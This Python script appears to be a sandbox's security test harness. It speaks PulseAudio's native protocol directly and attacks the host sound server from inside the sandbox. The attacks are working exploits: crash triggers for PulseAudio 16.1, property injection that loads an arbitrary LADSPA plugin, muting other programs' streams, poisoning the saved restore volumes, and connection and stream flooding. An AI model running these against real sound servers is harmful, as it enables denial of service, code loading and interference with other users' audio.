#!/usr/bin/python3
"""Attacks on the sound door, run inside a sandbox by the image's own python3 (stdlib only).

A raw client of PulseAudio's native protocol on the sandbox's socket ($PULSE_SERVER): it says
what libpulse would not. Each attack prints one line of what it got (a Python literal:
python3-minimal has no json module); the test on the host
judges by what the user's server did.

    pulseattack.py victim INDEX     change another program's stream (INDEX: its sink input)
    pulseattack.py misaligned       audio at an offset that is not a whole frame, then a drain
    pulseattack.py properties SO    stream, client and format properties that load modules
    pulseattack.py connections N    hold N authenticated connections, and one that never says
                                    a word; how many the server took, how soon the silent one
                                    was closed
    pulseattack.py direct INDEX     a record stream "directly on" another program's sink input
    pulseattack.py restore NAME     mute and turn down what the server saves for the program
                                    named NAME (its next stream starts that way)
    pulseattack.py rate             change the rate of streams made without a variable rate
    pulseattack.py streams N        hold up to N streams on each of four connections, until
                                    /root/data/go exists (their count in /root/data/held)
    pulseattack.py stale            every command that names a stream's channel, on a channel
                                    never made, one being deleted, one deleted, and on one
                                    the server gave out again
    pulseattack.py deaf SECONDS     a connection that asks for events and lists and never
                                    reads, while another makes and ends streams for SECONDS;
                                    whether the deaf one was closed
    pulseattack.py hoard SECONDS    a connection that asks for the server's lists for SECONDS
                                    and never reads an answer; whether it was closed
    pulseattack.py hasty SECONDS    connections that ask for a stream and hang up at once, one
                                    after another for SECONDS; how many
"""

from __future__ import annotations

import os
import socket
import struct
import sys
import time

CONTROL = 0xFFFFFFFF
INVALID = 0xFFFFFFFF
VERSION = 35
ERROR, REPLY = 0, 2
CREATE_PLAYBACK_STREAM, DELETE_PLAYBACK_STREAM, CREATE_RECORD_STREAM = 3, 4, 5
GET_PLAYBACK_LATENCY, SUBSCRIBE = 14, 35
CORK, FLUSH, TRIGGER, SET_PLAYBACK_STREAM_NAME, PREBUF = 41, 42, 43, 46, 60
AUTH, SET_CLIENT_NAME, DRAIN = 8, 9, 12
GET_SERVER_INFO, GET_SINK_INFO_LIST, GET_SOURCE_INFO_LIST = 20, 22, 24
SET_SINK_INPUT_VOLUME, SET_SINK_INPUT_MUTE = 37, 69
SET_PLAYBACK_STREAM_BUFFER_ATTR = 72
UPDATE_PLAYBACK_STREAM_PROPLIST, UPDATE_CLIENT_PROPLIST = 81, 82
REMOVE_PLAYBACK_STREAM_PROPLIST = 84
UPDATE_PLAYBACK_STREAM_SAMPLE_RATE, UPDATE_RECORD_STREAM_SAMPLE_RATE = 74, 75
S16LE, U8 = 3, 0


def u32(value: int) -> bytes:
    return b"L" + struct.pack(">I", value)


def u8(value: int) -> bytes:
    return b"B" + bytes([value])


def boolean(value: bool) -> bytes:
    return b"1" if value else b"0"


def text(value: str | None) -> bytes:
    return b"N" if value is None else b"t" + value.encode() + b"\0"


def proplist(values: dict[str, str]) -> bytes:
    out = b"P"
    for key, value in values.items():
        data = value.encode() + b"\0"
        out += text(key) + u32(len(data)) + b"x" + struct.pack(">I", len(data)) + data
    return out + text(None)


def sample_spec(fmt: int, channels: int, rate: int) -> bytes:
    return b"a" + struct.pack(">BBI", fmt, channels, rate)


def channel_map(channels: int) -> bytes:
    return b"m" + bytes([channels]) + (bytes([0]) if channels == 1 else bytes([1, 2]))


def cvolume(channels: int, volume: int = 0x10000) -> bytes:
    return b"v" + bytes([channels]) + struct.pack(">I", volume) * channels


def pcm_format(channels: int) -> bytes:
    return b"f" + u8(1) + proplist({"format.sample_format": '"s16le"',
                                    "format.rate": "44100", "format.channels": str(channels)})


class Closed(Exception):
    pass


class Client:
    def __init__(self, authenticate: bool = True, name: str | None = "attack") -> None:
        path = os.environ["PULSE_SERVER"].removeprefix("unix:")
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(5)
        self.sock.connect(path)
        self.tag = 0
        if authenticate:
            self.request(AUTH, u32(VERSION), b"x" + struct.pack(">I", 256) + bytes(256))
            if name is not None:
                self.request(SET_CLIENT_NAME, proplist({"application.name": name}))

    def next_tag(self) -> int:
        self.tag += 1
        return self.tag

    def send(self, command: int, tag: int, *args: bytes) -> None:
        payload = u32(command) + u32(tag) + b"".join(args)
        self.sock.sendall(struct.pack(">IIIII", len(payload), CONTROL, 0, 0, 0) + payload)

    def audio(self, channel: int, data: bytes, offset: int = 0, flags: int = 0) -> None:
        self.sock.sendall(struct.pack(">IIIII", len(data), channel, offset >> 32,
                                      offset & 0xFFFFFFFF, flags) + data)

    def _exactly(self, size: int) -> bytes:
        data = b""
        while len(data) < size:
            chunk = self.sock.recv(size - len(data))
            if not chunk:
                raise Closed()
            data += chunk
        return data

    def packet(self) -> tuple[int, bytes]:
        length, channel, _, _, _ = struct.unpack(">IIIII", self._exactly(20))
        return channel, self._exactly(length)

    def answer(self, tag: int) -> tuple[str, bytes]:
        """("reply", its payload after command and tag) or ("error", the code's bytes)."""
        while True:
            channel, payload = self.packet()
            if channel != CONTROL or len(payload) < 10:
                continue
            command, got = struct.unpack(">xIxI", payload[:10])
            if got == tag and command in (REPLY, ERROR):
                return ("reply" if command == REPLY else "error"), payload[10:]

    def answers(self, *tags: int) -> list[str]:
        """"reply" or "error" for each tag, whatever the order the answers come in."""
        got: dict[int, str] = {}
        while len(got) < len(tags):
            channel, payload = self.packet()
            if channel != CONTROL or len(payload) < 10:
                continue
            command, tag = struct.unpack(">xIxI", payload[:10])
            if tag in tags and command in (REPLY, ERROR):
                got[tag] = "reply" if command == REPLY else "error"
        return [got[tag] for tag in tags]

    def request(self, command: int, *args: bytes) -> tuple[str, bytes]:
        tag = self.next_tag()
        self.send(command, tag, *args)
        kind, rest = self.answer(tag)
        if command in (AUTH, SET_CLIENT_NAME) and kind != "reply":
            raise Closed(f"the handshake was refused: {rest!r}")
        return kind, rest

    def create_args(self, fmt: int = S16LE, channels: int = 2, sink: str | None = None,
                    properties: dict[str, str] | None = None, tlength: int = INVALID,
                    formats: list[bytes] | None = None, rate: int = 44100) -> bytes:
        return (sample_spec(fmt, channels, rate) + channel_map(channels) + u32(INVALID)
                + text(sink) + u32(INVALID) + boolean(False) + u32(tlength) + u32(INVALID)
                + u32(INVALID) + u32(0) + cvolume(channels)
                + boolean(False) * 7                          # v12: remapping, moving
                + boolean(False) + boolean(False)             # v13: muted, adjust latency
                + proplist(properties or {"media.name": "attack"})
                + boolean(False) + boolean(False)             # v14
                + boolean(False) * 3 + boolean(False)         # v15, v17
                + boolean(False)                              # v18: passthrough
                + u8(len(formats or [])) + b"".join(formats or []))

    def create_playback(self, **kwargs: object) -> tuple[int, int] | None:
        """(channel, sink input) of a new stream, or None when refused."""
        kind, rest = self.request(CREATE_PLAYBACK_STREAM, self.create_args(**kwargs))  # type: ignore[arg-type]
        if kind != "reply":
            return None
        channel, sink_input = struct.unpack(">xIxI", rest[:10])
        return channel, sink_input

    def alive(self) -> bool:
        try:
            return self.request(GET_SERVER_INFO)[0] == "reply"
        except (OSError, Closed):
            return False


def attempt(results: dict[str, object], name: str, action) -> None:  # type: ignore[no-untyped-def]
    try:
        results[name] = action()
    except (OSError, Closed) as exc:
        results[name] = f"closed: {exc.__class__.__name__}"


def victim(index: int) -> dict[str, object]:
    """Every way in to another program's sink input: by its index; by a reply whose tag was a
    failed stream creation's; by a tag reused while a creation is pending."""
    results: dict[str, object] = {}

    def direct() -> object:
        client = Client()
        return [client.request(SET_SINK_INPUT_MUTE, u32(index), boolean(True))[0],
                client.request(SET_SINK_INPUT_VOLUME, u32(index), cvolume(2, 0x40000))[0]]

    def stale_tag() -> object:
        client = Client()
        own = client.create_playback(fmt=U8, channels=1)
        if own is None:
            return "no stream"
        got = []
        for _ in range(3):
            failed = client.next_tag()
            client.send(CREATE_PLAYBACK_STREAM, failed, client.create_args(sink="no-such-sink"))
            got.append(client.answer(failed)[0])
            # Its tag again, on a request whose reply carries a value the client chose where
            # a creation's reply has its sink input.
            client.send(SET_PLAYBACK_STREAM_BUFFER_ATTR, failed, u32(own[0]), u32(0x400000),
                        u32(index), u32(INVALID), u32(INVALID), boolean(False),
                        boolean(False))
            got.append(client.answer(failed)[0])
            got.append(client.request(SET_SINK_INPUT_MUTE, u32(index), boolean(True))[0])
            got.append(client.request(SET_SINK_INPUT_VOLUME, u32(index),
                                      cvolume(1, 0x40000))[0])
        return got

    def reused_tag() -> object:
        client = Client()
        tag = client.next_tag()
        client.send(CREATE_PLAYBACK_STREAM, tag, client.create_args(sink="no-such-sink"))
        client.send(SET_PLAYBACK_STREAM_BUFFER_ATTR, tag, u32(0), u32(0x400000), u32(index),
                    u32(INVALID), u32(INVALID), boolean(False), boolean(False))
        client.answer(tag)
        return [client.request(SET_SINK_INPUT_MUTE, u32(index), boolean(True))[0]]

    for name, action in (("direct", direct), ("stale_tag", stale_tag),
                         ("reused_tag", reused_tag)):
        attempt(results, name, action)
    return results


def misaligned() -> dict[str, object]:
    """Audio whose offset or length is not a whole frame of its s16le stereo stream, or that
    seeks, then a drain: PulseAudio 16.1 aborts on the first."""
    results: dict[str, object] = {}
    for name, offset, flags, size in (("offset", 5, 0, 4096), ("length", 0, 0, 4095),
                                      ("absolute-seek", 0, 1, 4096),
                                      ("negative-offset", (1 << 64) - 6, 0, 4096)):
        def run(offset: int = offset, flags: int = flags, size: int = size) -> object:
            client = Client()
            own = client.create_playback()
            if own is None:
                return "no stream"
            client.audio(own[0], bytes(size), offset=offset, flags=flags)
            client.audio(own[0], bytes(4096))
            kind = client.request(DRAIN, u32(own[0]))[0]
            return [kind, client.alive()]
        attempt(results, name, run)
    attempt(results, "server_alive_after", lambda: Client().alive())
    return results


def properties(plugin: str) -> dict[str, object]:
    """Properties that make modules act: module-filter-apply loads module-<filter.apply>
    (module-ladspa-sink dlopen()s its plugin=), filter-heuristics and role-cork act on
    media.role=phone, PipeWire routes by target.object / node.target / stream.capture.sink."""
    load = {"filter.apply": "ladspa-sink",
            "filter.apply.ladspa-sink.parameters": f"plugin={plugin} label=evil",
            "filter.want": "echo-cancel", "media.role": "phone",
            "module-stream-restore.id": "sink-input-by-media-role:music",
            "target.object": "sandboxapp_test_sink.monitor", "node.target": "0",
            "stream.capture.sink": "true", "node.dont-reconnect": "true",
            "pipewire.access": "unrestricted", "media.class": "Audio/Source",
            "application.process.binary": "../../../../../../proc/self/environ"}
    results: dict[str, object] = {}

    def stream() -> object:
        client = Client()
        own = client.create_playback(properties={"media.name": "x", **load},
                                     formats=[pcm_format(2)])
        if own is None:
            return "no stream"
        answers = [client.request(UPDATE_PLAYBACK_STREAM_PROPLIST, u32(own[0]), u32(1),
                                  proplist(load))[0],
                   client.request(UPDATE_CLIENT_PROPLIST, u32(1), proplist(load))[0]]
        for _ in range(20):  # play a second of silence, as a player does
            client.audio(own[0], bytes(8820))
            time.sleep(0.05)
        answers.append(client.request(DRAIN, u32(own[0]))[0])
        return answers

    def format_properties() -> object:
        client = Client()
        evil = b"f" + u8(1) + proplist({"format.sample_format": '"s16le"',
                                        "format.rate": "44100", "format.channels": "2",
                                        **load})
        return client.create_playback(properties={"media.name": "f"}, formats=[evil]) is not None

    attempt(results, "stream", stream)
    attempt(results, "formats", format_properties)
    return results


def connections(count: int) -> dict[str, object]:
    """A connection that never says a word (how soon is it closed?), then count held at
    once (how many does the server take?)."""
    silent = Client(authenticate=False)
    silent.sock.settimeout(30)
    started = time.monotonic()
    try:
        closed = silent.sock.recv(1) == b""
    except OSError:
        closed = True
    waited = time.monotonic() - started
    held = []
    refused = 0
    for _ in range(count):
        try:
            held.append(Client())
        except (OSError, Closed):
            refused += 1
    return {"held": len(held), "refused": refused, "silent_closed": closed,
            "silent_closed_after": round(waited, 2)}


def direct(index: int) -> dict[str, object]:
    client = Client()
    args = (sample_spec(S16LE, 2, 44100) + channel_map(2) + u32(INVALID) + text(None)
            + u32(INVALID) + boolean(False) + u32(INVALID) + boolean(False) * 7
            + boolean(False) + boolean(False) + proplist({"media.name": "direct"})
            + u32(index) + boolean(False) + boolean(False) * 2 + u8(0) + cvolume(2)
            + boolean(False) * 5)
    kind, _ = client.request(CREATE_RECORD_STREAM, args)
    return {"direct_on_input": kind, "alive": client.alive()}


def restore(name: str) -> dict[str, object]:
    """module-stream-restore saves a stream's volume and mute under a name the stream's
    properties give (its role, application id or name): the sandbox's own stream, filed under
    another program's name, turned down and muted, would start that program's next stream so."""
    results: dict[str, object] = {}

    def silence(client: Client, own: tuple[int, int]) -> object:
        return [client.request(SET_SINK_INPUT_VOLUME, u32(own[1]), cvolume(2, 0x0800))[0],
                client.request(SET_SINK_INPUT_MUTE, u32(own[1]), boolean(True))[0]]

    def replaced() -> object:  # its properties replaced wholesale (SET mode) by the name
        client = Client()
        own = client.create_playback()
        if own is None:
            return "no stream"
        client.request(UPDATE_PLAYBACK_STREAM_PROPLIST, u32(own[0]), u32(0),
                       proplist({"application.name": name}))
        return silence(client, own)

    def unnamed() -> object:  # a client that never names itself
        client = Client(name=None)
        own = client.create_playback(properties={"application.name": name})
        return "no stream" if own is None else silence(client, own)

    def removed() -> object:  # the identity removed from the stream
        client = Client(name=name)
        own = client.create_playback()
        if own is None:
            return "no stream"
        client.request(REMOVE_PLAYBACK_STREAM_PROPLIST, u32(own[0]), text("application.id"),
                       text("module-stream-restore.id"), text(None))
        return silence(client, own)

    def direct_id() -> object:  # the restore key itself, and a role shared with others
        client = Client()
        own = client.create_playback(properties={
            "module-stream-restore.id": f"sink-input-by-application-name:{name}",
            "media.role": "music", "application.id": name})
        return "no stream" if own is None else silence(client, own)

    for label, action in (("replaced", replaced), ("unnamed", unnamed),
                          ("removed", removed), ("direct_id", direct_id)):
        attempt(results, label, action)
        time.sleep(0.3)
    return results


def rate() -> dict[str, object]:
    """A new rate for a stream made without a variable one: PulseAudio 16.1 aborts in its
    resampler (playback: s16le mono on a stereo sink of the same rate)."""
    results: dict[str, object] = {}

    def playback() -> object:
        client = Client()
        own = client.create_playback(channels=1)
        if own is None:
            return "no stream"
        return [client.request(UPDATE_PLAYBACK_STREAM_SAMPLE_RATE, u32(own[0]),
                               u32(22050))[0], client.alive()]

    def no_rate() -> object:
        """A rate of 0, with a format list, then new buffer sizes for the stream still being
        made: PipeWire's pulse server divided by it."""
        client = Client()
        first, second = client.next_tag(), client.next_tag()
        client.send(CREATE_PLAYBACK_STREAM, first,
                    client.create_args(rate=0, formats=[pcm_format(2)]))
        client.send(SET_PLAYBACK_STREAM_BUFFER_ATTR, second, u32(0), u32(INVALID),
                    u32(INVALID), u32(INVALID), u32(INVALID), boolean(False), boolean(False))
        return [client.answer(first)[0], client.answer(second)[0], client.alive()]

    attempt(results, "playback", playback)
    attempt(results, "no_rate", no_rate)
    attempt(results, "server_alive_after", lambda: Client().alive())
    return results


def streams(count: int) -> dict[str, object]:
    """Streams held at once, paused, on four connections: a sink takes 256 in all."""
    held = 0
    clients = []
    for _ in range(4):
        try:
            client = Client()
        except (OSError, Closed):
            continue
        clients.append(client)
        for _ in range(count):
            try:
                args = client.create_args()
                # Paused: the sixth value is "corked".
                corked = args.replace(u32(INVALID) + boolean(False) + u32(INVALID),
                                      u32(INVALID) + boolean(True) + u32(INVALID), 1)
                kind, _ = client.request(CREATE_PLAYBACK_STREAM, corked)
            except (OSError, Closed):
                break
            if kind == "reply":
                held += 1
    # Held until the test, which plays meanwhile, says it is done.
    with open("/root/data/held", "w") as mark:
        mark.write(str(held))
    deadline = time.monotonic() + 60
    while not os.path.exists("/root/data/go") and time.monotonic() < deadline:
        time.sleep(0.05)
    return {"held": held, "connections": len(clients)}


def _by_channel(channel: int) -> list[tuple[int, bytes]]:
    """Every playback command that names a stream by its channel, with its arguments."""
    now = struct.pack(">cII", b"T", 0, 0)
    return [(CORK, u32(channel) + boolean(True)), (FLUSH, u32(channel)),
            (TRIGGER, u32(channel)), (PREBUF, u32(channel)), (DRAIN, u32(channel)),
            (GET_PLAYBACK_LATENCY, u32(channel) + now),
            (SET_PLAYBACK_STREAM_NAME, u32(channel) + text("renamed")),
            (SET_PLAYBACK_STREAM_BUFFER_ATTR, u32(channel) + u32(INVALID) * 4 + boolean(False)
             + boolean(False)),
            (UPDATE_PLAYBACK_STREAM_PROPLIST, u32(channel) + u32(1)
             + proplist({"media.name": "updated"})),
            (REMOVE_PLAYBACK_STREAM_PROPLIST, u32(channel) + text("media.title") + text(None)),
            (DELETE_PLAYBACK_STREAM, u32(channel))]


def stale() -> dict[str, object]:
    """Commands on channels that are not (or no longer) the connection's streams: PipeWire's
    pulse server gives a deleted stream's channel to the next stream made."""
    results: dict[str, object] = {}

    def never_made() -> object:
        client = Client()
        return [client.request(command, args)[0]
                for channel in (0, 1, 7) for command, args in _by_channel(channel)]

    def after_delete(answered: bool) -> object:
        """Each command right after its stream's deletion: sent before (or after) the server
        answered it."""
        client = Client()
        got = []
        for command, args in _by_channel(0):
            own = client.create_playback()
            if own is None:
                return "no stream"
            delete = client.next_tag()
            client.send(DELETE_PLAYBACK_STREAM, delete, u32(own[0]))
            if answered:
                client.answers(delete)
            tag = client.next_tag()
            client.send(command, tag, args.replace(u32(0), u32(own[0]), 1))
            got.append(client.answers(delete, tag)[1] if not answered
                       else client.answers(tag)[0])
        return got

    def given_again() -> object:
        """A channel deleted and made again: commands on it reach the new stream."""
        client = Client()
        first = client.create_playback()
        if first is None:
            return "no stream"
        client.request(DELETE_PLAYBACK_STREAM, u32(first[0]))
        second = client.create_playback()
        if second is None:
            return "no stream"
        return [second[0] == first[0],
                client.request(CORK, u32(second[0]) + boolean(True))[0]]

    for name, action in (("never_made", never_made),
                         ("while_deleted", lambda: after_delete(answered=False)),
                         ("deleted", lambda: after_delete(answered=True)),
                         ("given_again", given_again)):
        attempt(results, name, action)
    attempt(results, "server_alive_after", lambda: Client().alive())
    return results


def deaf(seconds: float) -> dict[str, object]:
    """One connection asks for every event and for the server's lists, and never reads;
    another makes and ends streams for `seconds`, each an event for the deaf one. Whether the
    deaf one was closed."""
    listener = Client()
    listener.request(SUBSCRIBE, u32(0x2FF))
    for _ in range(120):  # more answers than the socket holds
        for command in (GET_SINK_INFO_LIST, GET_SOURCE_INFO_LIST):
            listener.send(command, listener.next_tag())
    worker = Client()
    deadline = time.monotonic() + seconds
    made = 0
    worker_cut: str | None = None
    while time.monotonic() < deadline:
        try:
            own = worker.create_playback()
            if own is not None:
                made += 1
                worker.request(DELETE_PLAYBACK_STREAM, u32(own[0]))
        except (OSError, Closed) as exc:
            worker_cut = f"after {deadline - time.monotonic():.1f} s left: {exc!r}"
            break
    listener.sock.settimeout(2)
    closed = False
    try:
        while True:
            listener.packet()
    except Closed:
        closed = True
    except OSError as exc:
        closed = not isinstance(exc, socket.timeout)
    results: dict[str, object] = {"made": made, "worker_cut": worker_cut,
                                  "deaf_closed": closed}
    attempt(results, "server_alive_after", lambda: Client().alive())
    return results


def hoard(seconds: float) -> dict[str, object]:
    """One connection asks for the server's lists for `seconds`, as fast as it is let, and
    never reads an answer: each is held for it somewhere. Whether it was closed, and how many
    it asked."""
    listener = Client()
    asked = 0
    deadline = time.monotonic() + seconds
    closed = False
    while time.monotonic() < deadline:
        try:
            listener.send(GET_SINK_INFO_LIST, listener.next_tag())
            asked += 1
        except TimeoutError:
            break  # the other side takes nothing, and does not close: not cut off
        except OSError:
            closed = True
            break
    results: dict[str, object] = {"asked": asked, "closed": closed}
    attempt(results, "server_alive_after", lambda: Client().alive())
    return results


def hasty(seconds: float) -> dict[str, object]:
    """Connections that each ask for a stream and hang up without waiting for it, one after
    another for `seconds`: each request waits its turn somewhere, or is refused."""
    made = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            # The handshake, the name and the stream at once, no answer awaited.
            client = Client(authenticate=False)
            client.send(AUTH, client.next_tag(), u32(VERSION),
                        b"x" + struct.pack(">I", 256) + bytes(256))
            client.send(SET_CLIENT_NAME, client.next_tag(),
                        proplist({"application.name": "hasty"}))
            client.send(CREATE_PLAYBACK_STREAM, client.next_tag(), client.create_args())
            client.sock.close()
            made += 1
        except (OSError, Closed):
            time.sleep(0.01)
    results: dict[str, object] = {"made": made}
    attempt(results, "server_alive_after", lambda: Client().alive())
    return results


def main() -> None:
    attack, *args = sys.argv[1:]
    found = {"victim": lambda: victim(int(args[0])), "misaligned": misaligned,
             "properties": lambda: properties(args[0]),
             "connections": lambda: connections(int(args[0])),
             "direct": lambda: direct(int(args[0])),
             "restore": lambda: restore(args[0]), "rate": rate,
             "streams": lambda: streams(int(args[0])), "stale": stale,
             "deaf": lambda: deaf(float(args[0])),
             "hoard": lambda: hoard(float(args[0])),
             "hasty": lambda: hasty(float(args[0]))}[attack]()
    print(repr(found), flush=True)


if __name__ == "__main__":
    main()
